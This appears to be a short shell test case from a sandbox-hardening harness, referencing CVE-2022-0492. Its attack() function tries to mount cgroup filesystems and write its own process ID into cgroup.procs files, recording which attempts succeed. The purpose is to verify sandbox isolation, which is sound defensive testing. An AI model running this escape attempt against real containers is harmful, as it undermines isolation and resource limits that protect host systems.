# Out of one's control group, or its limits changed: by what is mounted, or by a mount of one's own.
PROMISE=P5
SOURCE="CVE-2022-0492; nsjail 199"
attack() {
    local file
    mkdir -p "$WORK/cg"
    "$TOOL" mount none "$WORK/cg" cgroup2 0 && echo mounted >>"$PROOF"
    "$TOOL" mount none "$WORK/cg" cgroup 0 && echo mounted >>"$PROOF"
    for file in $(find /sys/fs/cgroup "$WORK/cg" -name 'cgroup.procs' 2>/dev/null | head -n 50); do
        { echo $$ >"$file"; } 2>/dev/null && echo "$file" >>"$PROOF"
    done
}
success() { proof; }
twin() { unfiltered root; }
